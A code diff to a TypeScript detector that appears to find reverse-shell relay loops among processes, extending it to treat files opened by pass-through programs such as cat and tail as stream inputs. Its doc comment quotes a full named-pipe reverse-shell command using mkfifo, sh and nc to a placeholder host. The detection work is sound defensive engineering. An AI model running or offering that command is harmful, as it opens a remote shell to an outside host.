@@ -1,5 +1,6 @@
 import type { ProcessFact } from "../../facts/process.ts";
 import type { ByteString } from "../../text/byteString.ts";
+import { programName } from "../programName.ts";
 
 /**
  * Finds the network program of `mkfifo f; cat f | sh -i 2>&1 | nc host port > f`: the
@@ -15,14 +16,7 @@ export function findRelayLoop(
 ): ProcessFact | undefined {
   const [input] = shell.standardStreams;
   if (!isChannel(input) || !outputsOf(shell).some(isChannel)) return undefined;
-  const readers = new Map<ByteString, ProcessFact[]>();
-  for (const process of processes) {
-    const stream = process.standardStreams[0];
-    if (!isChannel(stream)) continue;
-    const others = readers.get(stream);
-    if (others === undefined) readers.set(stream, [process]);
-    else others.push(process);
-  }
+  const readers = readersByChannel(processes);
   // Breadth first from the shell's output; whoever is reached passes the stream on.
   const before = new Map<ProcessFact, ProcessFact>();
   let front: readonly ProcessFact[] = [shell];
@@ -46,6 +40,24 @@ export function findRelayLoop(
   }
   return undefined;
 }
+
+function readersByChannel(processes: readonly ProcessFact[]): ReadonlyMap<ByteString, readonly ProcessFact[]> {
+  const readers = new Map<ByteString, ProcessFact[]>();
+  for (const process of processes) {
+    const inputs = new Set([process.standardStreams[0]].filter(isChannel));
+    // `cat f` has its file as another descriptor. Other programs open logs and data there.
+    if (passers.has(programName(process))) for (const path of process.openFiles) inputs.add(path);
+    for (const stream of inputs) {
+      const others = readers.get(stream);
+      if (others === undefined) readers.set(stream, [process]);
+      else others.push(process);
+    }
+  }
+  return readers;
+}
+
+/** Programs that hand on what they read. */
+const passers = new Set(["cat", "tail", "tee", "dd", "head", "sed", "grep", "stdbuf"]);
 
 function pathTo(process: ProcessFact, before: ReadonlyMap<ProcessFact, ProcessFact>): readonly ProcessFact[] {
   const path: ProcessFact[] = [];
